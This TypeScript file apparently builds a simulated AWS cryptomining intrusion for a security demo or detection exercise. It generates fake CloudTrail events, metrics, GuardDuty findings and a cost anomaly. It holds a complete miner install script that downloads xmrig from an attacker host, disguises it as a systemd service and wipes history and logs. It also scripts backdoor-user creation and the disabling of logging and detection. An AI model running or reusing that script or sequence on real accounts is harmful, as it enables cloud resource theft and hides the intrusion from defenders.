// The brief's incident, applied to an account draft: a web server exploited through an unpatched
// Apache starts mining (visible only in its metrics), then the attacker uses a stolen sub-account
// access key to open a mining-pool security group, launch 128 miners of one architecture in four
// regions the account never used, leave a back door (a new admin user with a key and a console
// password), stop CloudTrail logging, delete the web servers' log group and a GuardDuty detector.
// The bill follows from the miners' instance hours, exactly as for any other instance.

import {
  DAY,
  HOUR,
  MINUTE,
  POLICY,
  SECOND,
  USER_AGENT,
  accessKeyEntry,
  attachUserPolicy,
  authorizeSecurityGroupIngress,
  buildSecurityGroup,
  clamp,
  consoleLogin,
  createAccessKey,
  createLoginProfile,
  createSecurityGroup,
  createUser,
  deleteDetector,
  deleteLogGroup,
  describeRegions,
  getCallerIdentity,
  getServiceQuota,
  hash32,
  iamUserIdentity,
  importKeyPair,
  iso,
  modifyInstanceAttribute,
  newId,
  periodIndex,
  publicIp,
  runInstances,
  runInstancesDryRun,
  softNoise,
  stopLogging,
  tcpFrom,
  userRef,
  type AccountDraft,
  type Caller,
  type InstanceSpec,
  type Rng,
  type UserRef,
  type Workload,
  SERVICE,
  usageType as usageTypeOf,
} from './build.js';
import type { ScenarioInstance, ScenarioTrail } from '../types.js';

/** What the attack needs from the victim account. */
export interface AttackTarget {
  draft: AccountDraft;
  /** The sub-account user whose key is stolen. */
  stolen: { user: UserRef; accessKeyId: string; normalSourceIPs: readonly string[] };
  /** The web server exploited through Apache. */
  web: ScenarioInstance;
  trail: ScenarioTrail;
  /** The web servers' log group the attacker deletes. */
  webLogGroup: { region: string; name: string };
}

export interface MinerBatch {
  region: string;
  at: string;
  instanceType: string;
  sourceIPAddress: string;
  eventID: string;
  instanceIds: string[];
}

/** The attack as built: ids, times and addresses, for tests, docs and the demo's narrative. */
export interface AttackManifest {
  start: string;
  webCompromise: { instanceId: string; region: string; at: string };
  stolenKey: { userName: string; accessKeyId: string; normalSourceIPs: readonly string[] };
  attackerIPs: string[];
  userAgent: string;
  regions: string[];
  architecture: 'x86_64';
  securityGroups: { region: string; groupId: string; groupName: string; openPorts: number[] }[];
  batches: MinerBatch[];
  minerInstanceIds: string[];
  persistence: { userName: string; userArn: string; accessKeyId: string; consoleLogin: { at: string; sourceIPAddress: string; mfaUsed: false } };
  tampering: {
    stopLogging: { at: string; trailArn: string };
    deleteLogGroup: { at: string; region: string; logGroupName: string };
    deleteDetector: { at: string; region: string; detectorId: string };
  };
  guardDutyFindings: { id: string; type: string; region: string; resource: string }[];
  /**
   * AWS Cost Anomaly Detection's own anomaly for the attack (in `costs.anomalies`): EC2 compute in
   * the first attack region, from the first attack day to the last day AWS has evaluated (a day
   * late); absent when `now` is too early for AWS to have flagged it.
   */
  awsCostAnomaly?: { anomalyId: string; region: string; start: string; end: string };
}

export const ATTACK_START = '2026-11-24T02:13:00Z';

/** Addresses the attacker works from: two Tor exits and a VPS that also serves the miner. */
export const ATTACKER = {
  torA: '185.220.101.34',
  torB: '185.220.101.47',
  vps: '45.9.148.108',
  console: '45.9.148.121',
  pool: 'pool.supportxmr.com:3333',
  keyName: 'deploy-2024',
  newUser: 'support-admin',
  minerService: 'systemd-journald-helper',
} as const;

interface BatchPlan {
  /** Offset from the attack's start. */
  at: number;
  region: string;
  instanceType: string;
  ip: string;
}

const h = (hours: number, minutes = 0, seconds = 0): number => hours * HOUR + minutes * MINUTE + seconds * SECOND;

/**
 * Eight batches of 16 in four regions the account never used, all within three days of the first.
 * eu-north-1 gets c5a.4xlarge (the attacker takes what capacity there is): another instance type,
 * the same x86_64 architecture.
 */
const BATCHES: BatchPlan[] = [
  { at: h(0, 18, 7), region: 'us-east-2', instanceType: 'c5.4xlarge', ip: ATTACKER.torA },
  { at: h(0, 52, 44), region: 'ap-southeast-1', instanceType: 'c5.4xlarge', ip: ATTACKER.torA },
  { at: h(19, 27, 12), region: 'sa-east-1', instanceType: 'c5.4xlarge', ip: ATTACKER.vps },
  { at: h(36, 7, 31), region: 'eu-north-1', instanceType: 'c5a.4xlarge', ip: ATTACKER.torB },
  { at: h(60, 57, 5), region: 'us-east-2', instanceType: 'c5.4xlarge', ip: ATTACKER.vps },
  { at: h(67, 2, 50), region: 'ap-southeast-1', instanceType: 'c5.4xlarge', ip: ATTACKER.torB },
  { at: h(71, 17, 26), region: 'sa-east-1', instanceType: 'c5.4xlarge', ip: ATTACKER.vps },
  { at: h(71, 42, 3), region: 'eu-north-1', instanceType: 'c5a.4xlarge', ip: ATTACKER.torB },
];
export const MINERS_PER_BATCH = 16;
const MINING_PORTS = [3333, 14444];

/** The miner's install script: xmrig renamed and run as a look-alike systemd service. */
export function minerUserData(wallet: string): string {
  const dir = '/usr/lib/systemd/journald-helper';
  return [
    '#!/bin/bash',
    'export DEBIAN_FRONTEND=noninteractive',
    `curl -fsSL http://${ATTACKER.vps}/x/xmrig-6.21.0-linux-static-x64.tar.gz -o /tmp/.x.tgz`,
    `mkdir -p ${dir} && tar xzf /tmp/.x.tgz -C ${dir} --strip-components=1 && rm -f /tmp/.x.tgz`,
    `mv ${dir}/xmrig ${dir}/${ATTACKER.minerService}`,
    `cat > /etc/systemd/system/${ATTACKER.minerService}.service <<'EOF'`,
    '[Unit]',
    'Description=Journal Service Helper',
    'After=network-online.target',
    '[Service]',
    `ExecStart=${dir}/${ATTACKER.minerService} -o stratum+tcp://${ATTACKER.pool} -u ${wallet} -p rig --donate-level 1 --cpu-max-threads-hint 100 --randomx-1gb-pages -B`,
    'Restart=always',
    'Nice=10',
    '[Install]',
    'WantedBy=multi-user.target',
    'EOF',
    'systemctl daemon-reload',
    `systemctl enable --now ${ATTACKER.minerService}`,
    'history -c; rm -f /var/log/cloud-init-output.log',
    '',
  ].join('\n');
}

/** A miner: flat near 98% CPU, steady trickle of pool traffic. */
export function minerProfile(id: string): Pick<Workload, 'cpu' | 'netIn' | 'netOut'> {
  const [c, i, o] = [hash32(`${id}/cpu`), hash32(`${id}/in`), hash32(`${id}/out`)];
  return {
    cpu: (t) => clamp(98.2 + 0.6 * softNoise(c, periodIndex(t)), 0, 100),
    netIn: (t) => 620e3 * (1 + 0.05 * softNoise(i, periodIndex(t))),
    netOut: (t) => 360e3 * (1 + 0.05 * softNoise(o, periodIndex(t))),
  };
}

/** Applies the incident to `target.draft` and returns what it built. */
export function applyMinerAttack(target: AttackTarget): AttackManifest {
  const { draft } = target;
  const start = Date.parse(ATTACK_START);
  const last = start + Math.max(...BATCHES.map((b) => b.at)) + 16 * 20 * SECOND;
  if (last > draft.now) throw new Error(`the attack runs until ${iso(last)}, after the scenario's now ${iso(draft.now)}`);
  if (last - (start + h(0, 18, 7)) > 3 * DAY) throw new Error('the miners must all launch within 3 days');

  const r = draft.rng.fork('attack');
  const rec = draft.recorder;
  const account = draft.account;
  const at = (offset: number) => start + offset;
  const stolenCaller = (ip: string): Caller => ({
    identity: iamUserIdentity(target.stolen.user, target.stolen.accessKeyId),
    sourceIPAddress: ip,
    userAgent: USER_AGENT.boto3,
  });
  const touch = (t: number, service: string, region: string) =>
    draft.touchKey(target.stolen.user.userName, target.stolen.accessKeyId, t, service, region);

  // (a) The web server: the miner starts minutes after the exploit. Its user data is untouched.
  const web = draft.workload(target.web.InstanceId);
  const baseCpu = web.cpu;
  const baseOut = web.netOut;
  const baseIn = web.netIn;
  const webSeed = hash32(`${target.web.InstanceId}/mining`);
  // Its series must reach back before the exploit, so that its own baseline is visible.
  web.metricsFrom = Math.min(web.metricsFrom ?? Infinity, start - 2 * DAY);
  // Its own mean outbound traffic before the attack, to size the jump (>300% over baseline).
  const baselineOut = meanOf(baseOut, start - 7 * DAY, start);
  web.cpu = (t) => (t >= start ? clamp(97 + 0.8 * softNoise(webSeed, periodIndex(t)), 0, 100) : baseCpu(t));
  web.netOut = (t) => {
    const base = baseOut(t) ?? 0;
    return t >= start ? base + 4.5 * baselineOut * (1 + 0.04 * softNoise(webSeed ^ 1, periodIndex(t))) : base;
  };
  web.netIn = (t) => {
    const base = baseIn(t) ?? 0;
    return t >= start ? base + 0.6 * baselineOut * (1 + 0.04 * softNoise(webSeed ^ 2, periodIndex(t))) : base;
  };

  // (b) Reconnaissance with the stolen key.
  getCallerIdentity(rec, stolenCaller(ATTACKER.torA), { time: at(h(0, 6, 41)) });
  describeRegions(rec, stolenCaller(ATTACKER.torA), { time: at(h(0, 7, 5)), region: 'us-east-1' });
  touch(at(h(0, 7, 5)), 'ec2', 'us-east-1');
  const regions = [...new Set(BATCHES.map((b) => b.region))];
  regions.forEach((region, k) => {
    getServiceQuota(rec, stolenCaller(ATTACKER.torA), { time: at(h(0, 8, 2 + 11 * k)), region, serviceCode: 'ec2', quotaCode: 'L-1216C47A' });
  });
  const firstRegion = BATCHES[0]?.region ?? 'us-east-2';
  const images = Object.fromEntries(regions.map((region) => [region, newId.image(r)]));
  runInstancesDryRun(rec, stolenCaller(ATTACKER.torA), { time: at(h(0, 10, 10)), region: firstRegion, instanceType: 'c5.4xlarge', imageId: images[firstRegion] ?? '', count: MINERS_PER_BATCH });

  // Per region, before its first batch: a security group open to the pool ports and SSH, and a key pair.
  const wallet = newId.moneroAddress(r);
  const userData = minerUserData(wallet);
  const regionSetup = new Map<string, { group: { GroupId: string; GroupName: string }; vpcId: string; subnets: { id: string; az: string }[] }>();
  const manifestGroups: AttackManifest['securityGroups'] = [];
  for (const region of regions) {
    const first = BATCHES.find((b) => b.region === region);
    if (!first) continue;
    const caller = stolenCaller(first.ip);
    const vpcId = newId.vpc(r);
    const subnets = ['a', 'b', 'c'].map((az) => ({ id: newId.subnet(r), az: `${region}${az}` }));
    const t0 = at(first.at) - 6 * MINUTE;
    const group = buildSecurityGroup({
      id: newId.securityGroup(r), name: 'launch-wizard-1', description: `launch-wizard-1 created ${iso(t0)}`,
      region, vpcId, owner: account, ingress: [],
    });
    createSecurityGroup(rec, caller, { time: t0, group });
    const ssh = tcpFrom(22, ['0.0.0.0/0']);
    const pool = MINING_PORTS.map((port) => tcpFrom(port, ['0.0.0.0/0']));
    if (region === firstRegion) {
      // The first time, the script opens SSH and the pool ports in two calls; later in one.
      authorizeSecurityGroupIngress(rec, caller, { time: t0 + 9 * SECOND, region, groupId: group.GroupId, permissions: [ssh], ruleIds: [newId.securityGroupRule(r)] });
      authorizeSecurityGroupIngress(rec, caller, { time: t0 + 14 * SECOND, region, groupId: group.GroupId, permissions: pool, ruleIds: pool.map(() => newId.securityGroupRule(r)) });
    } else {
      authorizeSecurityGroupIngress(rec, caller, { time: t0 + 9 * SECOND, region, groupId: group.GroupId, permissions: [ssh, ...pool], ruleIds: [ssh, ...pool].map(() => newId.securityGroupRule(r)) });
    }
    group.IpPermissions = [ssh, ...pool];
    draft.securityGroups.push(group);
    importKeyPair(rec, caller, { time: t0 + 31 * SECOND, region, keyName: ATTACKER.keyName, keyPairId: newId.keyPair(r), fingerprint: fingerprint(r) });
    regionSetup.set(region, { group: { GroupId: group.GroupId, GroupName: group.GroupName }, vpcId, subnets });
    manifestGroups.push({ region, groupId: group.GroupId, groupName: group.GroupName, openPorts: [22, ...MINING_PORTS] });
  }

  // The miners, batch by batch; each one then gets termination protection.
  const batches: MinerBatch[] = [];
  const minerIds: string[] = [];
  const metricsFrom = draft.now - 3 * DAY;
  for (const plan of BATCHES) {
    const setup = regionSetup.get(plan.region);
    if (!setup) throw new Error(`no setup for ${plan.region}`);
    const t = at(plan.at);
    const instances = Array.from({ length: MINERS_PER_BATCH }, (_, k) => {
      const subnet = setup.subnets[k % setup.subnets.length];
      if (!subnet) throw new Error('no subnet');
      const id = newId.instance(r);
      const spec: InstanceSpec = {
        id, region: plan.region, az: subnet.az, type: plan.instanceType, launchTime: t,
        securityGroups: [setup.group], vpcId: setup.vpcId, subnetId: subnet.id,
        privateIp: `172.31.${r.int(0, 47)}.${r.int(4, 250)}`, publicIp: publicIp(r, plan.region),
        imageId: images[plan.region] ?? '', keyName: ATTACKER.keyName, architecture: 'x86_64',
        userData, rootVolume: { id: newId.volume(r), sizeGb: 8 }, imdsV2: false,
      };
      return draft.addInstance(spec, { ...minerProfile(id), to: Infinity, egressShare: 1, metricsFrom });
    });
    const caller = stolenCaller(plan.ip);
    const record = runInstances(rec, caller, { time: t, region: plan.region, instances, reservationId: newId.reservation(r), withUserData: true });
    instances.forEach((instance, k) => {
      modifyInstanceAttribute(rec, caller, { time: t + 75 * SECOND + k * 4 * SECOND, region: plan.region, instanceId: instance.InstanceId, attribute: 'disableApiTermination', value: true });
    });
    touch(t + 75 * SECOND + (MINERS_PER_BATCH - 1) * 4 * SECOND, 'ec2', plan.region);
    const ids = instances.map((i) => i.InstanceId);
    minerIds.push(...ids);
    batches.push({ region: plan.region, at: iso(t), instanceType: plan.instanceType, sourceIPAddress: plan.ip, eventID: record.eventID, instanceIds: ids });
  }

  // (c) Persistence: a new admin user with a key and a console password, used at once without MFA.
  const ir = r.fork('persistence');
  const backdoor = userRef(account, ATTACKER.newUser, newId.userId(ir));
  const backdoorKey = newId.accessKey(ir);
  const caller = stolenCaller(ATTACKER.torA);
  const tUser = at(h(1, 8, 12));
  createUser(rec, caller, { time: tUser, user: backdoor });
  createAccessKey(rec, caller, { time: at(h(1, 8, 40)), userName: backdoor.userName, accessKeyId: backdoorKey });
  createLoginProfile(rec, caller, { time: at(h(1, 9, 5)), userName: backdoor.userName });
  attachUserPolicy(rec, caller, { time: at(h(1, 9, 31)), userName: backdoor.userName, policyArn: POLICY.admin.PolicyArn });
  touch(at(h(1, 9, 31)), 'iam', 'us-east-1');
  const tLogin = at(h(1, 27, 18));
  consoleLogin(rec, { time: tLogin, user: backdoor, sourceIPAddress: ATTACKER.console, userAgent: USER_AGENT.browserLinux, mfa: false });
  draft.users.push({
    UserName: backdoor.userName, UserId: backdoor.userId, Arn: backdoor.arn, Path: '/', CreateDate: iso(tUser),
    PasswordLastUsed: iso(tLogin), LoginProfile: { CreateDate: iso(at(h(1, 9, 5))), PasswordResetRequired: false },
    AccessKeys: [accessKeyEntry(backdoorKey, at(h(1, 8, 40)))], AttachedPolicies: [POLICY.admin],
  });

  // (d) Tampering, from the new user's console session.
  const consoleCaller: Caller = {
    identity: iamUserIdentity(backdoor, newId.sessionKey(ir), { creationDate: tLogin, mfa: false }),
    sourceIPAddress: ATTACKER.console,
    userAgent: USER_AGENT.browserLinux,
    console: true,
  };
  const trailArn = target.trail.TrailARN ?? target.trail.Name;
  const tStop = at(h(1, 39, 47));
  stopLogging(rec, consoleCaller, { time: tStop, region: target.trail.HomeRegion, trailArn });
  target.trail.IsLogging = false;
  target.trail.StopLoggingTime = iso(tStop);
  target.trail.LatestDeliveryTime = iso(tStop + 4 * MINUTE + 12 * SECOND);
  target.trail.LatestDigestDeliveryTime = iso(tStop + 7 * MINUTE);
  const tLogs = at(h(1, 42, 10));
  deleteLogGroup(rec, consoleCaller, { time: tLogs, region: target.webLogGroup.region, logGroupName: target.webLogGroup.name });
  const gdRegion = 'ap-southeast-1';
  const detector = draft.guardduty.detectors.find((d) => d.Region === gdRegion);
  if (!detector) throw new Error(`no GuardDuty detector in ${gdRegion}`);
  const tDetector = at(h(1, 45, 33));
  deleteDetector(rec, consoleCaller, { time: tDetector, region: gdRegion, detectorId: detector.DetectorId });
  draft.guardduty.detectors.splice(draft.guardduty.detectors.indexOf(detector), 1);

  // GuardDuty (still on in us-east-2 and us-east-1) reports a miner's pool lookups and the stopped trail.
  const findings = guardDutyFindings(draft, r, {
    miner: batches[0]?.instanceIds[3] ?? '', minerRegion: firstRegion, minerLaunch: at(BATCHES[0]?.at ?? 0),
    backdoor, sessionKey: String(consoleCaller.identity.accessKeyId), stoppedAt: tStop,
  });

  const awsCostAnomaly = addAwsCostAnomaly(draft, r.fork('cost-anomaly'), { region: firstRegion, instanceType: BATCHES[0]?.instanceType ?? 'c5.4xlarge', start });

  return {
    start: ATTACK_START,
    ...(awsCostAnomaly && { awsCostAnomaly }),
    webCompromise: { instanceId: target.web.InstanceId, region: target.web.Region, at: iso(start) },
    stolenKey: { userName: target.stolen.user.userName, accessKeyId: target.stolen.accessKeyId, normalSourceIPs: target.stolen.normalSourceIPs },
    attackerIPs: [ATTACKER.torA, ATTACKER.torB, ATTACKER.vps, ATTACKER.console],
    userAgent: USER_AGENT.boto3,
    regions,
    architecture: 'x86_64',
    securityGroups: manifestGroups,
    batches,
    minerInstanceIds: minerIds,
    persistence: {
      userName: backdoor.userName, userArn: backdoor.arn, accessKeyId: backdoorKey,
      consoleLogin: { at: iso(tLogin), sourceIPAddress: ATTACKER.console, mfaUsed: false },
    },
    tampering: {
      stopLogging: { at: iso(tStop), trailArn },
      deleteLogGroup: { at: iso(tLogs), region: target.webLogGroup.region, logGroupName: target.webLogGroup.name },
      deleteDetector: { at: iso(tDetector), region: gdRegion, detectorId: detector.DetectorId },
    },
    guardDutyFindings: findings,
  };
}

/** Days of history AWS's model is approximated with here: the mean daily cost before the anomaly. */
const ANOMALY_EXPECTATION_DAYS = 14;

/**
 * The anomaly AWS Cost Anomaly Detection reports for the miners, as GetAnomalies returns it. Its
 * default services monitor sees EC2 compute jump in the first attack region (the account never
 * used it). AWS evaluates billing data about a day late, so the anomaly runs from the attack's
 * first day to the day before now's, and does not exist yet when that is before the first day.
 * The impact is computed from the ledger once the instance costs are in it: the actual cost of EC2
 * compute in that region over those days less what the days before predicted (nothing here).
 */
function addAwsCostAnomaly(draft: AccountDraft, r: Rng, p: { region: string; instanceType: string; start: number }): AttackManifest['awsCostAnomaly'] {
  const startDay = iso(dayStartOf(p.start)).slice(0, 10);
  const endDay = iso(dayStartOf(draft.now) - DAY).slice(0, 10);
  if (endDay < startDay) return undefined;
  const anomalyId = r.uuid();
  const monitorArn = `arn:aws:ce::${draft.account}:anomalymonitor/${r.uuid()}`;
  const usageType = usageTypeOf(p.region, `BoxUsage:${p.instanceType}`);
  draft.costFinalizers.push((ledger) => {
    const daily = ledger.dailyAmounts((d) => d.service === SERVICE.ec2Compute && d.region === p.region);
    const before = [...daily].filter(([date]) => date < startDay).slice(-ANOMALY_EXPECTATION_DAYS).map(([, v]) => v);
    const expectedPerDay = before.length ? before.reduce((a, b) => a + b, 0) / before.length : 0;
    const days = [...daily].filter(([date]) => date >= startDay && date <= endDay).map(([, v]) => v);
    const actual = days.reduce((a, b) => a + b, 0);
    const expected = expectedPerDay * days.length;
    const cents = (x: number) => Math.round(x * 100) / 100;
    const impact = cents(actual - expected);
    ledger.anomalies.push({
      AnomalyId: anomalyId,
      AnomalyStartDate: startDay,
      AnomalyEndDate: endDay,
      DimensionValue: SERVICE.ec2Compute,
      RootCauses: [{
        Service: SERVICE.ec2Compute, Region: p.region, LinkedAccount: draft.account, LinkedAccountName: draft.alias,
        UsageType: usageType, Impact: { Contribution: impact },
      }],
      AnomalyScore: { MaxScore: 0.98, CurrentScore: 0.96 },
      Impact: {
        MaxImpact: cents(Math.max(...days.map((v) => v - expectedPerDay))),
        TotalImpact: impact,
        TotalActualSpend: cents(actual),
        TotalExpectedSpend: cents(expected),
        ...(expected > 0 && { TotalImpactPercentage: cents((impact / expected) * 100) }),
      },
      MonitorArn: monitorArn,
    });
  });
  return { anomalyId, region: p.region, start: startDay, end: endDay };
}

function dayStartOf(t: number): number {
  return Math.floor(t / DAY) * DAY;
}

function meanOf(profile: (t: number) => number | null, from: number, to: number): number {
  let sum = 0;
  let n = 0;
  for (let t = from; t < to; t += 5 * MINUTE) {
    sum += profile(t) ?? 0;
    n++;
  }
  return n ? sum / n : 0;
}

function fingerprint(r: Rng): string {
  return Array.from({ length: 16 }, () => r.hex(2)).join(':');
}

function guardDutyFindings(
  draft: AccountDraft,
  r: Rng,
  p: { miner: string; minerRegion: string; minerLaunch: number; backdoor: UserRef; sessionKey: string; stoppedAt: number },
): AttackManifest['guardDutyFindings'] {
  const account = draft.account;
  const detectorOf = (region: string) => draft.guardduty.detectors.find((d) => d.Region === region)?.DetectorId ?? '';
  const miner = draft.instances.find((i) => i.InstanceId === p.miner);
  if (!miner) throw new Error('no miner for the GuardDuty finding');
  const cryptoId = newId.finding(r);
  const firstSeen = p.minerLaunch + 24 * MINUTE;
  const lastSeen = draft.now - 21 * MINUTE;
  draft.guardduty.findings.push({
    AccountId: account,
    Arn: `arn:aws:guardduty:${p.minerRegion}:${account}:detector/${detectorOf(p.minerRegion)}/finding/${cryptoId}`,
    CreatedAt: iso(firstSeen + 3 * MINUTE),
    Description: `EC2 instance ${p.miner} is querying a domain name that is associated with Bitcoin-related activity.`,
    Id: cryptoId,
    Partition: 'aws',
    Region: p.minerRegion,
    Resource: {
      ResourceType: 'Instance',
      InstanceDetails: {
        InstanceId: p.miner,
        InstanceType: miner.InstanceType,
        InstanceState: 'running',
        LaunchTime: miner.LaunchTime,
        ImageId: miner.ImageId,
        AvailabilityZone: miner.Placement?.AvailabilityZone,
        NetworkInterfaces: [{ PrivateIpAddress: miner.PrivateIpAddress, PublicIp: miner.PublicIpAddress, VpcId: miner.VpcId, SubnetId: miner.SubnetId, SecurityGroups: miner.SecurityGroups }],
        Tags: [],
      },
    },
    SchemaVersion: '2.0',
    Service: {
      Action: { ActionType: 'DNS_REQUEST', DnsRequestAction: { Domain: ATTACKER.pool.split(':')[0], Protocol: 'UDP', Blocked: false } },
      Archived: false,
      Count: Math.round((lastSeen - firstSeen) / (10 * MINUTE)),
      DetectorId: detectorOf(p.minerRegion),
      EventFirstSeen: iso(firstSeen),
      EventLastSeen: iso(lastSeen),
      ResourceRole: 'TARGET',
      ServiceName: 'guardduty',
    },
    Severity: 8,
    Title: `EC2 instance ${p.miner} is querying a domain name associated with Bitcoin-related activity.`,
    Type: 'CryptoCurrency:EC2/BitcoinTool.B!DNS',
    UpdatedAt: iso(lastSeen + 4 * MINUTE),
  });
  const stealthId = newId.finding(r);
  draft.guardduty.findings.push({
    AccountId: account,
    Arn: `arn:aws:guardduty:us-east-1:${account}:detector/${detectorOf('us-east-1')}/finding/${stealthId}`,
    CreatedAt: iso(p.stoppedAt + 11 * MINUTE),
    Description: `The API StopLogging was invoked by ${p.backdoor.userName}, an IAM user, disabling CloudTrail logging.`,
    Id: stealthId,
    Partition: 'aws',
    Region: 'us-east-1',
    Resource: {
      ResourceType: 'AccessKey',
      AccessKeyDetails: { AccessKeyId: p.sessionKey, PrincipalId: p.backdoor.userId, UserName: p.backdoor.userName, UserType: 'IAMUser' },
    },
    SchemaVersion: '2.0',
    Service: {
      Action: {
        ActionType: 'AWS_API_CALL',
        AwsApiCallAction: {
          Api: 'StopLogging', CallerType: 'Remote IP', ServiceName: 'cloudtrail.amazonaws.com',
          RemoteIpDetails: { IpAddressV4: ATTACKER.console, Country: { CountryName: 'Netherlands' }, Organization: { Asn: '49870', AsnOrg: 'Alsycon B.V.' } },
        },
      },
      Archived: false,
      Count: 1,
      DetectorId: detectorOf('us-east-1'),
      EventFirstSeen: iso(p.stoppedAt),
      EventLastSeen: iso(p.stoppedAt),
      ResourceRole: 'ACTOR',
      ServiceName: 'guardduty',
    },
    Severity: 2,
    Title: 'CloudTrail logging was disabled.',
    Type: 'Stealth:IAMUser/CloudTrailLoggingDisabled',
    UpdatedAt: iso(p.stoppedAt + 11 * MINUTE),
  });
  return [
    { id: cryptoId, type: 'CryptoCurrency:EC2/BitcoinTool.B!DNS', region: p.minerRegion, resource: p.miner },
    { id: stealthId, type: 'Stealth:IAMUser/CloudTrailLoggingDisabled', region: 'us-east-1', resource: p.backdoor.userName },
  ];
}
